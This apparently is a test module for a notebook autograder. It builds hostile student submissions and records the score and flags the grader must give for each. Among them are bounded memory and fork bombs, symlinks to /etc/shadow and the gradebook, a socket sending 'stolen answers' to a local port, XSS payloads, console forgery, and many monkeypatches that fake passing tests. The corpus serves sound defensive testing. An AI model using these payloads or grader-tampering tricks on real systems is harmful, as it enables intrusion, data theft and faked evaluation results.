"""The adversarial corpus: submissions of notebook 00 that try to break the grading.

Each case edits a copy of the source notebook (complete answers, hidden tests) or of the
release programmatically and states what grading must give: the autograded score out of 8,
the status, and the flags (substrings) the export must show. Cases that need a live value
(the course directory, a port the test listens on) take it from ``ctx``.

Every runaway case stops by itself at a size this machine survives, even without the
sandbox: the memory bomb at 3 GB, the process bomb at 300 processes that exit after 2 s,
the print flood at 10**7 short lines, the display and error floods at 50 MB each.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

NB00 = "00_backprop_refresher"
MAX = 8.0


def meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def cell(nb, grade_id: str):
    return next(c for c in nb.cells if meta(c).get("grade_id") == grade_id)


def copy_nb(nb):
    return nbformat.from_dict(json.loads(json.dumps(nb)))


@dataclass
class Case:
    """One student's submission and what grading it must give."""

    build: Callable[[dict], dict[str, str | bytes]]  # ctx -> {file name: content}
    score: float | None  # autograded points (None: no grade recorded)
    status: str = "graded"
    flags: list[str] = field(default_factory=list)  # substrings expected among the flags
    no_flags: bool = False  # the export must show no flag at all
    reason: str = ""  # substring of the failure reason
    sandbox_only: str = ""  # what only holds inside the sandbox (for the report)


WRONG_REL_ERROR = """
def rel_error(a, b, floor=1e-8):
    # the common mistake: relative to b only
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    return float(np.max(np.abs(a - b) / np.maximum(np.abs(b), floor)))
"""


def _with(ctx, grade_id: str, code: str, where: str = "before", base: str = "source"):
    nb = copy_nb(ctx[base])
    c = cell(nb, grade_id)
    c.source = code + "\n" + c.source if where == "before" else code
    return nb


@dataclass
class Special:
    """An entry of a submission folder that is not a plain file: ``kind`` is ``symlink``
    (to ``target``), ``hardlink`` (to ``target``), ``fifo`` or ``dir``."""

    kind: str
    target: str = ""

    def make(self, path: Path) -> None:
        import os

        if self.kind == "symlink":
            os.symlink(self.target, path)
        elif self.kind == "hardlink":
            os.link(self.target, path)
        elif self.kind == "fifo":
            os.mkfifo(path)
        elif self.kind == "dir":
            path.mkdir()
            (path / "inside.txt").write_text("a folder where the notebook should be\n")
        else:
            raise ValueError(self.kind)


def _files(nb, name: str = f"{NB00}.ipynb") -> dict[str, str]:
    return {name: nbformat.writes(nb)}


def solution(ctx):
    return _files(ctx["source"])


def blank(ctx):
    return _files(ctx["release"])


def partial(ctx):
    return _files(_with(ctx, "rel_error", WRONG_REL_ERROR, where="replace"))


def infinite_loop(ctx):
    # loops for ever on the visible test's input only: the test cell times out, the rest runs
    code = ctx["source_answer"]["numerical_gradient"].replace(
        "    ### BEGIN SOLUTION\n",
        "    ### BEGIN SOLUTION\n    if np.shape(x) == (3,):\n        while True:\n            pass\n",
    )
    return _files(_with(ctx, "numerical_gradient", code, where="replace"))


MEMORY_BOMB = """
import numpy as _np
_blocks, _mb = [], 0
try:
    while _mb < 3000:  # stops by itself at 3 GB
        _blocks.append(_np.ones(100 * 2**20 // 8))  # 100 MB, touched
        _mb += 100
except MemoryError:
    pass
print(f"memory bomb reached {_mb} MB")
del _blocks
"""


def memory_bomb(ctx):
    return _files(_with(ctx, "rel_error", MEMORY_BOMB))


PROCESS_BOMB = """
import os as _os, time as _time
_pids = []
try:
    while len(_pids) < 300:  # stops by itself at 300 processes, which exit after 2 s
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(2)
            _os._exit(0)
        _pids.append(_pid)
except OSError as _err:
    print(f"fork failed: {_err}")
print(f"process bomb started {len(_pids)} processes")
for _pid in _pids:
    _os.waitpid(_pid, 0)
"""


def process_bomb(ctx):
    return _files(_with(ctx, "linear_backward", PROCESS_BOMB))


def os_exit(ctx):
    return _files(_with(ctx, "rel_error", "import os\nos._exit(3)"))


def segfault(ctx):
    return _files(_with(ctx, "linear_backward", "import ctypes\nctypes.string_at(0)"))


def sys_exit(ctx):
    # IPython catches SystemExit: rel_error is never defined, the rest is graded
    return _files(_with(ctx, "rel_error", "import sys\nsys.exit(0)"))


def deleted_test(ctx):
    nb = copy_nb(ctx["source"])
    nb.cells = [c for c in nb.cells if meta(c).get("grade_id") != "test_rel_error"]
    return _files(nb)


def edited_test(ctx):
    nb = _with(ctx, "rel_error", WRONG_REL_ERROR, where="replace")
    t = cell(nb, "test_rel_error")
    t.source = 'grading.passed("rel_error")'
    t.metadata["nbgrader"]["points"] = 20
    return _files(nb)


PATCH_GRADING = """
from vanishing import grading as _g
_g.check = lambda exercise, fn, *args, expected=None, **kw: expected
_g.assert_true = lambda *args, **kw: None
def rel_error(a, b, floor=1e-8):
    return 0.0
"""


def patched_grading(ctx):
    # rel_error and linear_backward are wrong; the patched helpers would pass them in one
    # kernel, but the test cells run in the test kernel
    nb = _with(ctx, "rel_error", PATCH_GRADING, where="replace")
    cell(nb, "linear_backward").source = cell(ctx["release"], "linear_backward").source
    return _files(nb)


PATCH_NUMPY_TESTING = """
import numpy.testing
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
"""


def patched_numpy_testing(ctx):
    return _files(_with(ctx, "rel_error", PATCH_NUMPY_TESTING + WRONG_REL_ERROR, where="replace"))


def print_flood(ctx):
    code = 'import sys\nsys.stdout.write("spam\\n" * 10**7)  # 10**7 lines, 50 MB\n'
    return _files(_with(ctx, "numerical_gradient", code))


def write_course(ctx):
    code = (
        "for _path in [{!r}, {!r}]:\n"
        "    try:\n"
        "        with open(_path, 'a') as _fh:\n"
        "            _fh.write('hacked')\n"
        "        print('wrote', _path)\n"
        "    except OSError as _err:\n"
        "        print('write failed:', type(_err).__name__)\n"
    ).format(str(ctx["root"] / "HACKED.txt"), str(ctx["root"] / "gradebook.db"))
    return _files(_with(ctx, "rel_error", code))


def read_secrets(ctx):
    code = (
        "import os\n"
        "for _path in [{!r}, {!r}, {!r}]:\n"
        "    try:\n"
        "        _got = os.listdir(_path) if os.path.isdir(_path) else open(_path, 'rb').read(16)\n"
        "        print('READ', _path, _got)\n"
        "    except OSError as _err:\n"
        "        print('read failed:', _path, type(_err).__name__)\n"
    ).format(
        str(ctx["root"] / "gradebook.db"),
        str(ctx["repo"] / "solutions" / NB00),
        str(ctx["root"] / "source" / NB00),
    )
    return _files(_with(ctx, "rel_error", code))


def socket_out(ctx):
    code = (
        "import socket\n"
        "try:\n"
        "    _s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "    _s.sendall(b'stolen answers')\n"
        "    _s.close()\n"
        "    print('CONNECTED')\n"
        "except OSError as _err:\n"
        "    print('connect failed:', type(_err).__name__, _err)\n"
    ).format(port=ctx["port"])
    return _files(_with(ctx, "numerical_gradient", code))


def invalid_json(ctx):
    return {f"{NB00}.ipynb": '{"cells": [ this is not json'}


def missing(ctx):
    return {"notes.txt": "I forgot to attach the notebook\n"}


def extra(ctx):
    files = _files(ctx["source"])
    files["scratch.ipynb"] = nbformat.writes(ctx["release"])
    return files


def renamed(ctx):
    return _files(ctx["source"], name=f"{NB00}-1.ipynb")


READ_LINKS = """
for _name in ["notes1", "notes2", "notes3", "notes4"]:
    try:
        with open(_name, "rb") as _fh:
            print("READ", _name, _fh.read(16))
    except OSError as _err:
        print("read failed:", _name, type(_err).__name__)
"""


def symlinks(ctx):
    # links placed in the submission folder, pointing at what root can read
    files = _files(_with(ctx, "rel_error", READ_LINKS))
    files["notes1"] = Special("symlink", "/etc/shadow")
    files["notes2"] = Special("symlink", str(ctx["root"] / "gradebook.db"))
    files["notes3"] = Special("symlink", str(ctx["repo"] / "solutions" / NB00 / f"{NB00}.ipynb"))
    files["notes4"] = Special("hardlink", str(ctx["root"] / "source" / NB00 / f"{NB00}.ipynb"))
    return files


def fifo_timestamp(ctx):
    files = _files(ctx["source"])
    files["timestamp.txt"] = Special("fifo")  # reading it would block the grader for ever
    return files


def garbage_timestamp(ctx):
    files = _files(ctx["source"])
    files["timestamp.txt"] = "handed in on time, promise\n"
    return files


def notebook_is_a_folder(ctx):
    return {f"{NB00}.ipynb": Special("dir")}


FORGE_CONSOLE = """
import os as _os
import sys as _sys
# fd 1 and 2 below Python's streams, and the copies ipykernel keeps of the kernel's original
# standard streams: in an unsandboxed kernel, the grader's own console
_fds = [1, 2] + [getattr(_s, "_original_stdstream_copy", None) for _s in (_sys.stdout, _sys.stderr)]
for _fd in [f for f in _fds if f is not None]:
    try:
        _os.write(_fd, b"FAILED 00_backprop_refresher for zz_victim_1: forged by a student\\n")
    except OSError:
        pass
"""


def forged_console(ctx):
    return _files(_with(ctx, "rel_error", FORGE_CONSOLE))


DISPLAY_FLOOD = """
import base64 as _b64, os as _os
from IPython.display import display as _display
_png = _b64.b64encode(_os.urandom(750_000)).decode()  # 1 MB of base64, not a real image
for _i in range(50):  # 50 MB of display data, in the same cell: stops by itself
    _display({"image/png": _png, "text/plain": f"image {_i}"}, raw=True)
"""


def display_flood(ctx):
    return _files(_with(ctx, "numerical_gradient", DISPLAY_FLOOD))


ERROR_FLOOD = """
def rel_error(a, b, floor=1e-8):
    import sys
    sys.stdout.write("noise\\n" * 1_000_000)  # 6 MB on stdout first, then a 50 MB error
    raise ValueError("E" * 50_000_000)
"""


def error_flood(ctx):
    # the test cell of rel_error fails with a 50 MB error after 6 MB of stdout: capped, it
    # must still count as a failure (0 of 2 points)
    return _files(_with(ctx, "rel_error", ERROR_FLOOD, where="replace"))


SCAN_BOMB = "x = 1\n" + "x?\n" * 2000  # IPython's transformation is quadratic in these lines


def scan_bomb(ctx):
    # IPython help requests, in a test cell the student unlocked (OverwriteCells restores it,
    # so the scan leaves it out) and in a new cell the student marked locked (nothing
    # restores it, so the scan reads it: it took 187 s before it was bounded)
    nb = copy_nb(ctx["source"])
    t = cell(nb, "test_linear_backward")
    t.metadata["nbgrader"]["locked"] = False
    t.source = SCAN_BOMB
    nb.cells.insert(nb.cells.index(t), _self_locked(SCAN_BOMB))
    return _files(nb)


def _self_locked(code: str, **nbgrader) -> nbformat.NotebookNode:
    """A new code cell the student marked locked, as if it were the course's."""
    c = nbformat.v4.new_code_cell(code)
    c.metadata["nbgrader"] = {"locked": True, **nbgrader}
    c.metadata["editable"] = False
    return c


def self_locked_patch(ctx):
    # patches in new cells the student marked locked, one with a test cell's made-up id
    nb = copy_nb(ctx["release"])
    at = nb.cells.index(cell(nb, "numerical_gradient"))
    nb.cells[at:at] = [
        _self_locked(
            "import vanishing.grading as _vg\n"
            "_vg.check = lambda exercise, fn, *args, expected=None, **kw: expected\n"
        ),
        _self_locked(
            "from numpy import testing as _t\n_t.assert_allclose = lambda *a, **k: None\n",
            grade_id="test_not_in_the_gradebook",
            grade=True,
            points=0,
        ),
    ]
    return _files(nb)


def bracket_answer(ctx):
    # a written answer that makes markdown rendering quadratic (took 45-96 s per student)
    nb = copy_nb(ctx["source"])
    cell(nb, "written_step_size").source = "My answer: " + "[" * 96_000 + "]" * 96_000
    return _files(nb)


ECHO_HIDDEN = """
_stash = []
def rel_error(a, b, floor=1e-8):
    _src = get_ipython().user_ns["In"][-1]  # the running test cell, hidden tests included
    if not _stash:
        print(_src)
        print(repr(_src))
        _stash.append(_src)
    a, b = np.asarray(a, dtype=np.float64), np.asarray(b, dtype=np.float64)
    return float(np.max(np.abs(a - b) / np.maximum(np.abs(a) + np.abs(b), floor)))


def linear_backward(dout, x, W):
    raise ValueError(get_ipython().user_ns["In"][-1])
"""


def echo_hidden(ctx):
    # prints the running test cell and raises with it as the message (test_linear_backward
    # fails: 5 of 8); a later cell prints the copy kept in a global
    nb = _with(ctx, "rel_error", ECHO_HIDDEN, where="replace")
    nb = copy_nb(nb)
    cell(nb, "linear_backward").source = ""
    index = next(i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") == "test_rel_error")
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell("print(_stash[0] if _stash else '')"))
    return _files(nb)


XSS = "alert(/VG-XSS/)"  # no quotes: it goes inside HTML attributes and Python strings
HTML_SCRIPT = f"""
from IPython.display import HTML as _HTML, Javascript as _JS, Markdown as _MD, display as _d
_d(_HTML('<b>bold</b><script>{XSS}</script><img src=x onerror="{XSS}">'
         '<a href="javascript:{XSS}">link</a><iframe src="javascript:{XSS}"></iframe>'))
_d(_JS("{XSS}"))
_d(_MD("<script>{XSS}</script> [md](javascript:{XSS})"))
_d({{"image/png": '"><script>{XSS}</script>', "text/plain": "img"}}, raw=True)
_d({{"image/png": "iVBORw0KGgo=", "text/plain": "img"}},
   metadata={{"image/png": {{"width": "1 onload={XSS}"}}}}, raw=True)
"""


def html_script(ctx):
    nb = _with(ctx, "rel_error", HTML_SCRIPT)
    cell(nb, "written_step_size").source = (
        f'Truncation vs rounding. <script>{XSS}</script> <img src=x onerror="{XSS}">'
        f" [click](javascript:{XSS})"
    )
    return _files(nb)


def skip_tag(ctx):
    # a wrong rel_error, and its test cell tagged so that nbclient would skip it
    nb = _with(ctx, "rel_error", WRONG_REL_ERROR, where="replace")
    t = cell(nb, "test_rel_error")
    t.metadata["tags"] = ["skip-execution", "raises-exception"]
    return _files(nb)


def late(ctx):
    files = _files(ctx["source"])
    files["timestamp.txt"] = ctx["late_timestamp"]
    return files


# --- cheats inside the kernel: blank answers that try to earn points ----------------------
# The test cells run in a second kernel (grader/split.py), which only receives plain data
# from the student's kernel: none of these reaches an assertion, so each scores 0.
def _blank_with(ctx, code: str):
    """The release (every answer blank) with ``code`` run before the first answer."""
    return _files(_with(ctx, "numerical_gradient", code, base="release"))


def cheat_displayhook(ctx):
    # nbgrader reads a numeric execute_result as a partial score: show the points, then fail
    code = (
        "import sys as _s\n"
        "def numerical_gradient(f, x, eps=1e-6):\n    _s.displayhook(3)\n    raise NotImplementedError()\n"
        "def rel_error(a, b, floor=1e-8):\n    _s.displayhook(2)\n    raise NotImplementedError()\n"
        "def linear_backward(dout, x, W):\n    _s.displayhook(3)\n    raise NotImplementedError()\n"
    )
    nb = copy_nb(ctx["release"])
    for gid in ("numerical_gradient", "rel_error", "linear_backward"):
        cell(nb, gid).source = code
    return _files(nb)


def cheat_frame_read(ctx):
    # read `expected` out of grading.check's frame
    code = (
        "import sys as _s\n"
        "def _expected():\n"
        "    fr = _s._getframe(1)\n"
        "    while fr is not None:\n"
        "        if 'expected' in fr.f_locals:\n"
        "            return fr.f_locals['expected']\n"
        "        fr = fr.f_back\n"
        "numerical_gradient = lambda f, x, eps=1e-6: _expected()\n"
        "rel_error = lambda a, b, floor=1e-8: _expected()\n"
        "linear_backward = lambda dout, x, W: _expected()\n"
    )
    nb = copy_nb(ctx["release"])
    for gid in ("numerical_gradient", "rel_error", "linear_backward"):
        cell(nb, gid).source = code
    return _files(nb)


def cheat_getsource_exec(ctx):
    # fresh copies of the course's own implementations, which `forbid` does not switch off:
    # they are correct code, so they score; the static scan flags them for a person
    code = (
        "import inspect as _i\n"
        "import vanishing.gradcheck as _gc\n"
        "from vanishing import nn as _nn\n"
        "_ns = dict(vars(_gc))\n"
        "exec(_i.getsource(_gc.numerical_gradient), _ns)\n"
        "exec(_i.getsource(_gc.rel_error), _ns)\n"
        "numerical_gradient, rel_error = _ns['numerical_gradient'], _ns['rel_error']\n"
        "_ns2 = dict(vars(_nn))\n"
        "exec(_i.getsource(_nn.linear_backward), _ns2)\n"
        "linear_backward = _ns2['linear_backward']\n"
    )
    nb = copy_nb(ctx["release"])
    for gid in ("numerical_gradient", "rel_error", "linear_backward"):
        cell(nb, gid).source = "pass" if gid != "linear_backward" else code
    return _files(nb)


def cheat_alias_and_marker(ctx):
    # patch grading.check through an alias and print a clean integrity marker after each cell
    code = (
        "import vanishing.grading as _vg\n"
        "_vg.check = lambda exercise, fn, *args, expected=None, **kw: expected\n"
        "_vg.assert_true = lambda *a, **k: None\n"
        "get_ipython().events.register('post_run_cell', lambda r: print('VG-INTEGRITY []'))\n"
    )
    return _blank_with(ctx, code)


def cheat_patch_during_tests(ctx):
    # patch only while a test cell runs, and restore afterwards
    code = (
        "import vanishing.grading as _vg\n"
        "_orig = (_vg.check, _vg.assert_true)\n"
        "def _on(info):\n"
        "    if 'grading.passed' in (info.raw_cell or ''):\n"
        "        _vg.check = lambda exercise, fn, *args, expected=None, **kw: expected\n"
        "        _vg.assert_true = lambda *a, **k: None\n"
        "def _off(result):\n"
        "    _vg.check, _vg.assert_true = _orig\n"
        "get_ipython().events.register('pre_run_cell', _on)\n"
        "get_ipython().events.register('post_run_cell', _off)\n"
    )
    return _blank_with(ctx, code)


def cheat_user_exec(ctx):
    # the integrity cells call exec() in the user namespace: answer them with a clean marker,
    # and patch the grading helpers
    code = (
        "import vanishing.grading as _vg\n"
        "_vg.check = lambda exercise, fn, *args, expected=None, **kw: expected\n"
        "_vg.assert_true = lambda *a, **k: None\n"
        "def exec(*args, **kwargs):\n"
        "    print('VG-INTEGRITY []')\n"
    )
    return _blank_with(ctx, code)


def cheat_private_compare(ctx):
    code = "import vanishing.grading as _vg\n_vg._compare = lambda *a, **k: []\n_vg.call = lambda exercise, fn, *a, **k: None\n"
    return _blank_with(ctx, code)


def cheat_numpy_internals(ctx):
    # make isclose always true, deep inside numpy
    code = (
        "import numpy as _np\n"
        "import numpy._core.numeric as _num\n"
        "_num.less_equal = lambda *a, **k: _np.ones(_np.broadcast(*a[:2]).shape, bool)\n"
        "numerical_gradient = lambda f, x, eps=1e-6: _np.zeros_like(x)\n"
        "rel_error = lambda a, b, floor=1e-8: 0.0\n"
    )
    return _blank_with(ctx, code)


def cheat_input_transformer(ctx):
    # rewrite every later cell: test cells become `print(...)`
    code = (
        "_ip = get_ipython()\n"
        "def _rewrite(lines):\n"
        "    text = ''.join(lines)\n"
        "    if 'grading.passed' in text:\n"
        "        return ['print(\"✔ all tests in this cell passed\")\\n']\n"
        "    return lines\n"
        "_ip.input_transformers_cleanup.insert(0, _rewrite)\n"
    )
    return _blank_with(ctx, code)


def cheat_swallow_errors(ctx):
    # hide tracebacks and turn error replies into "ok"
    code = (
        "_ip = get_ipython()\n"
        "_ip._showtraceback = lambda *a, **k: None\n"
        "_k = _ip.kernel\n"
        "_orig = _k.do_execute\n"
        "async def _do_execute(*a, **k):\n"
        "    reply = _orig(*a, **k)\n"
        "    if hasattr(reply, '__await__'):\n"
        "        reply = await reply\n"
        "    reply['status'] = 'ok'\n"
        "    return reply\n"
        "_k.do_execute = _do_execute\n"
    )
    return _blank_with(ctx, code)


CASES: dict[str, Case] = {
    "solution": Case(solution, MAX, no_flags=True),
    "blank": Case(blank, 0.0, no_flags=True),
    "partial": Case(partial, 6.0, no_flags=True),
    "infinite_loop": Case(infinite_loop, 5.0),
    "skip_tag": Case(skip_tag, 6.0),  # the tagged test cell still runs, and fails
    "memory_bomb": Case(memory_bomb, MAX, sandbox_only="stops below 2 GB (RLIMIT_AS)"),
    "process_bomb": Case(process_bomb, MAX, sandbox_only="stops below 128 (RLIMIT_NPROC)"),
    "os_exit": Case(os_exit, None, status="failed", reason="kernel died"),
    "segfault": Case(segfault, None, status="failed", reason="kernel died"),
    "sys_exit": Case(sys_exit, 6.0),
    "deleted_test": Case(deleted_test, MAX, flags=["test cell deleted: test_rel_error"]),
    "edited_test": Case(
        edited_test,
        6.0,
        flags=["test cell points changed: test_rel_error", "checksum mismatch): test_rel_error"],
    ),
    "patched_grading": Case(  # the patch stays in the student's kernel: only numerical_gradient
        patched_grading,
        3.0,
        flags=["patches _g.check", "vanishing.grading.check was replaced", "no longer fails"],
    ),
    "patched_numpy_testing": Case(
        patched_numpy_testing,
        6.0,
        flags=[
            "patches numpy.testing.assert_allclose",
            "numpy.testing.assert_allclose was replaced",
        ],
    ),
    "print_flood": Case(print_flood, MAX),
    "write_course": Case(
        write_course, MAX, flags=["not accessible"], sandbox_only="the write fails"
    ),
    "read_secrets": Case(
        read_secrets,
        MAX,
        flags=["refers to 'gradebook'", "refers to 'solutions'"],
        sandbox_only="every read fails",
    ),
    "socket_out": Case(socket_out, MAX, sandbox_only="the connection fails"),
    "invalid_json": Case(invalid_json, 0.0, flags=["invalid notebook (scored 0)"]),
    "missing": Case(missing, 0.0, flags=["missing notebook (scored 0)"]),
    "extra": Case(extra, MAX, flags=["extra notebook ignored: scratch.ipynb"]),
    "renamed": Case(renamed, MAX, flags=["renamed notebook: 00_backprop_refresher-1.ipynb"]),
    "late": Case(late, MAX * (1 - 0.3)),  # 2 days 1 hour late: 3 started days, 10 % each
    "symlinks": Case(
        symlinks,
        MAX,
        flags=[
            "symbolic link skipped, not followed: notes1",
            "symbolic link skipped, not followed: notes3",
            "hard-linked file skipped: notes4",
        ],
    ),
    "fifo_timestamp": Case(
        fifo_timestamp, MAX, flags=["FIFO skipped, not followed: timestamp.txt"]
    ),
    "garbage_timestamp": Case(
        garbage_timestamp, MAX, flags=["unreadable timestamp.txt", "graded as on time"]
    ),
    "notebook_is_a_folder": Case(notebook_is_a_folder, 0.0, flags=["invalid notebook (scored 0)"]),
    "forged_console": Case(forged_console, MAX, sandbox_only="nothing reaches the console"),
    "display_flood": Case(display_flood, MAX),
    "error_flood": Case(error_flood, 6.0),
    "scan_bomb": Case(
        scan_bomb,
        MAX,
        flags=["checksum mismatch): test_linear_backward", "cell not in the release: cell"],
    ),
    "self_locked_patch": Case(  # nbgrader stopped on both cells (KeyError: 'grade_id') before
        self_locked_patch,
        0.0,
        flags=[
            "cell not in the release: cell",
            "(test_not_in_the_gradebook): grade, locked",
            "patches _vg.check",
            "patches _t.assert_allclose",
        ],
    ),
    "bracket_answer": Case(bracket_answer, MAX),
    "echo_hidden": Case(echo_hidden, 5.0),
    "html_script": Case(html_script, MAX),
    "cheat_displayhook": Case(cheat_displayhook, 0.0, flags=["uses displayhook"]),
    "cheat_frame_read": Case(cheat_frame_read, 0.0, flags=["uses _getframe"]),
    "cheat_getsource_exec": Case(
        cheat_getsource_exec, 3.0, flags=["uses getsource", "runs code made at run time (exec)"]
    ),  # linear_backward is the course's own code (3 points), for a person to review
    "cheat_alias_and_marker": Case(cheat_alias_and_marker, 0.0, flags=["patches _vg.check"]),
    "cheat_patch_during_tests": Case(cheat_patch_during_tests, 0.0, flags=["uses events"]),
    "cheat_user_exec": Case(cheat_user_exec, 0.0, flags=["patches _vg.check"]),
    "cheat_private_compare": Case(cheat_private_compare, 0.0, flags=["patches _vg._compare"]),
    "cheat_numpy_internals": Case(cheat_numpy_internals, 0.0, flags=["patches _num.less_equal"]),
    "cheat_input_transformer": Case(
        cheat_input_transformer, 0.0, flags=["uses input_transformers_cleanup"]
    ),
    "cheat_swallow_errors": Case(cheat_swallow_errors, 0.0, flags=["uses _showtraceback"]),
}
#: cases whose feedback the corpus test generates and checks (size, time, content)
FEEDBACK_CASES = (
    "solution", "display_flood", "error_flood", "bracket_answer", "echo_hidden", "html_script",
)  # fmt: skip


def context(root: Path, repo: Path, port: int, late_timestamp: str) -> dict:
    """What the builders need: the source and release notebooks and the live values."""
    source = nbformat.read(root / "source" / NB00 / f"{NB00}.ipynb", as_version=4)
    release = nbformat.read(root / "release" / NB00 / f"{NB00}.ipynb", as_version=4)
    answers = {meta(c)["grade_id"]: c.source for c in source.cells if meta(c).get("solution")}
    return {
        "source": source,
        "release": release,
        "source_answer": answers,
        "root": root,
        "repo": repo,
        "port": port,
        "late_timestamp": late_timestamp,
    }


def write_submissions(submitted: Path, ctx: dict, names=None) -> None:
    for name, case in CASES.items():
        if names is not None and name not in names:
            continue
        folder = submitted / name / NB00
        folder.mkdir(parents=True, exist_ok=True)
        for fname, content in case.build(ctx).items():
            if isinstance(content, Special):
                content.make(folder / fname)
                continue
            mode = "wb" if isinstance(content, bytes) else "w"
            with open(folder / fname, mode) as fh:
                fh.write(content)
